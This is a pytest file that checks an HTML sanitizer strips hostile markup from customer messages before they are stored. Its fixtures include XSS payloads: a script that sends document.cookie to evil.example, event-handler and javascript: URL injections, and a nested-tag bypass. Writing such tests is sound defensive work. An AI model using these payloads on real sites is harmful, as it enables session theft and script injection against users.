"""Customer-supplied HTML is sanitized before it is stored, so no browser
that renders ``Message.html`` (agent workspace, API clients) runs it."""

from __future__ import annotations

import pytest

from cases.models import Message
from cases.services import sanitize_html
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">Hello <b>team</b>,</p>'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src="https://cdn.example/receipt.png" alt="receipt" onerror="steal()">'
    '<a href="javascript:steal()">click</a> '
    '<a href="JaVaScRiPt:steal()">again</a> '
    '<a href="https://shop.example/orders/77">my order</a>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<svg onload="steal()"><circle r="1"/></svg>'
    "<style>body { display: none }</style>"
    '<p style="background: url(javascript:steal())">Thanks</p>'
)


def test_hostile_html_is_stored_sanitized(deliver):
    channel = factories.channel("mail", kind="email")

    response = deliver(channel, factories.payload(id="m-1", text="", html=HOSTILE))

    assert response.status_code == 202
    html = Message.objects.get().html
    lowered = html.lower()
    for dangerous in ("<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<svg", "<style", "steal"):
        assert dangerous not in lowered, dangerous
    # The safe markup and the words stay.
    assert "<b>team</b>" in html
    assert '<img src="https://cdn.example/receipt.png" alt="receipt">' in html
    assert 'href="https://shop.example/orders/77"' in html
    assert ">my order</a>" in html
    assert "Thanks" in html


def test_links_kept_open_without_access_to_the_page(deliver):
    channel = factories.channel("mail", kind="email")

    deliver(channel, factories.payload(id="m-1", html='<a href="https://shop.example/">shop</a>'))

    assert 'rel="noopener noreferrer nofollow"' in Message.objects.get().html


def test_plain_text_is_stored_as_sent(deliver):
    channel = factories.channel("mail", kind="email")
    text = "<script>alert(1)</script> is what I see in the app"

    deliver(channel, factories.payload(id="m-1", text=text))

    message = Message.objects.get()
    assert message.text == text  # text is escaped where it is shown, never parsed as HTML
    assert message.html == ""


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("", ""),
        ("<p>Hello</p>", "<p>Hello</p>"),
        ("<ul><li>one</li></ul>", "<ul><li>one</li></ul>"),
        ("<script>alert(1)</script>ok", "ok"),
        ('<img src="x" onerror="alert(1)">', '<img src="x">'),
        ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="data:text/html,hi">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
        ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ],
)
def test_sanitize_html(raw, clean):
    assert sanitize_html(raw) == clean
